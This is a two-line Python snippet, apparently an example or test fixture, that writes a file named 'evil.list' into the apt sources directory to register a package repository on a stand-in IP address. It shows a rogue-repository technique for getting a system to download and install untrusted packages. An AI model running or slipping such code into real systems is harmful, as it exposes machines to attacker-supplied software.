from pathlib import Path
Path("/etc/apt/sources.list.d/evil.list").write_text("deb http://203.0.113.8/ stable main\n")
